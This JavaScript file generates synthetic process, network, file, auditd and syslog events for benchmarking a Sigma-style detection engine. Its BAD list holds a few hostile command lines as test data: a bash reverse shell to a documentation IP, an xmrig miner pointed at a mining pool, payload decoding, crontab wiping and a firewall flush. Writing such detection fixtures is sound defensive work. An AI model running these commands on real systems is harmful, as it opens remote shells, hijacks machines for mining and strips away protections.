// Generated events for bench/sigma: a deterministic mix of process_creation, network_connection, file_event, auditd
// and syslog events shaped like the model's TelemetryEvent (as CompiledRuleset.match takes them).
let seed = 1;
const rnd = () => {
  seed = (seed * 1664525 + 1013904223) >>> 0;
  return seed / 2 ** 32;
};
const pick = (list) => list[Math.floor(rnd() * list.length)];

const BINS = [
  '/usr/bin/ls',
  '/usr/bin/cat',
  '/usr/bin/grep',
  '/usr/bin/python3',
  '/usr/sbin/nginx',
  '/usr/bin/bash',
  '/usr/bin/sh',
  '/usr/bin/curl',
  '/usr/bin/git',
  '/usr/bin/node',
  '/usr/lib/systemd/systemd',
  '/usr/bin/ps',
  '/usr/bin/sed',
  '/usr/bin/awk',
  '/usr/bin/find',
  '/usr/bin/tar',
  '/usr/bin/ssh',
  '/usr/sbin/cron',
  '/usr/bin/sudo',
];
const ARGS = [
  '-la /var/log',
  '--color=auto',
  '-r pattern /etc',
  'install -y nginx',
  'status nginx',
  '-c "echo hi"',
  'https://deb.debian.org/debian/dists/bookworm/Release',
  'pull origin main',
  'server.js --port 8080',
  '-xzf backup.tgz',
  'aux',
  "-i 's/a/b/' conf.ini",
  '-name "*.log" -mtime +7',
  'deploy@10.0.0.5',
  '-u www-data php artisan queue:work',
];
// A small share of suspicious events, so the benchmark also pays for real matches.
const BAD = [
  ['/tmp/.x/xmrig', '/tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44Ab --donate-level 1'],
  ['/usr/bin/base64', 'base64 -d /tmp/payload'],
  ['/usr/bin/crontab', 'crontab -r'],
  ['/usr/bin/bash', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
  ['/usr/bin/chmod', 'chmod +x /tmp/kinsing'],
  ['/usr/sbin/iptables', 'iptables -F'],
];

function procEvent(i) {
  const bad = rnd() < 0.01 ? pick(BAD) : null;
  const exe = bad ? bad[0] : pick(BINS);
  const cmd = bad ? bad[1] : `${exe.split('/').pop()} ${pick(ARGS)}`;
  return {
    event: {
      kind: 'exec',
      time: i,
      hostId: 'h',
      source: 'exec',
      fields: {
        'process.pid': 1000 + (i % 30000),
        'process.exe': exe,
        'process.commandLine': cmd,
        'parent.exe': pick(BINS),
        'parent.commandLine': `${pick(BINS)} ${pick(ARGS)}`,
        'process.user': pick(['root', 'www-data', 'deploy']),
        'process.cwd': pick(['/', '/root', '/var/www', '/home/deploy']),
      },
    },
  };
}
function netEvent(i) {
  return {
    event: {
      kind: 'connection',
      time: i,
      hostId: 'h',
      source: 'poll',
      fields: {
        'process.exe': pick(BINS),
        'destination.ip': `10.0.${i % 256}.${(i >> 8) % 256}`,
        'destination.port': pick([443, 80, 22, 5432, 3333]),
        'destination.hostname': pick([
          'deb.debian.org',
          'api.github.com',
          'registry.npmjs.org',
          'pool.minexmr.com',
        ]),
        'network.initiated': true,
      },
    },
  };
}
function fileEvent(i) {
  return {
    event: {
      kind: 'file',
      time: i,
      hostId: 'h',
      source: 'files',
      fields: {
        'file.path': pick([
          '/var/log/nginx/access.log',
          '/tmp/build-123.o',
          '/etc/cron.d/backup',
          '/home/deploy/.bashrc',
        ]),
        'file.action': pick(['create', 'change']),
        'process.exe': pick(BINS),
      },
    },
  };
}
function auditEvent(i) {
  const argv = `${pick(BINS).split('/').pop()} ${pick(ARGS)}`.split(' ');
  const fields = {
    'audit.type': pick(['EXECVE', 'SYSCALL', 'PATH']),
    'process.exe': pick(BINS),
    'log.message': `type=EXECVE msg=audit(${i}.000:1): argc=${argv.length} ${argv.map((a, n) => `a${n}="${a}"`).join(' ')}`,
  };
  argv.slice(0, 6).forEach((a, n) => {
    fields[`audit.a${n}`] = a;
  });
  return { event: { kind: 'log', time: i, hostId: 'h', source: 'auditd', fields } };
}
function syslogEvent(i) {
  return {
    event: {
      kind: 'log',
      time: i,
      hostId: 'h',
      source: 'syslog',
      fields: {
        'log.program': pick(['systemd', 'kernel', 'CRON', 'dhclient']),
        'log.message': pick([
          'Started Daily apt download activities.',
          'eth0: link up',
          '(root) CMD (run-parts /etc/cron.hourly)',
          'DHCPACK of 10.0.0.7 from 10.0.0.1',
        ]),
      },
    },
  };
}

/** `size` events: 60% process, 15% network, 10% file, 10% auditd, 5% syslog; the same list on every call. */
export function generatePool(size) {
  seed = 1;
  const pool = [];
  for (let i = 0; i < size; i++) {
    const r = rnd();
    pool.push(
      r < 0.6
        ? procEvent(i)
        : r < 0.75
          ? netEvent(i)
          : r < 0.85
            ? fileEvent(i)
            : r < 0.95
              ? auditEvent(i)
              : syslogEvent(i),
    );
  }
  // Events reach the engine from parsers (JSON.parse, Buffer decoding), whose strings are flat; the template
  // literals above build rope strings instead, which no reader produces. A JSON round trip gives the real shape.
  return JSON.parse(JSON.stringify(pool));
}
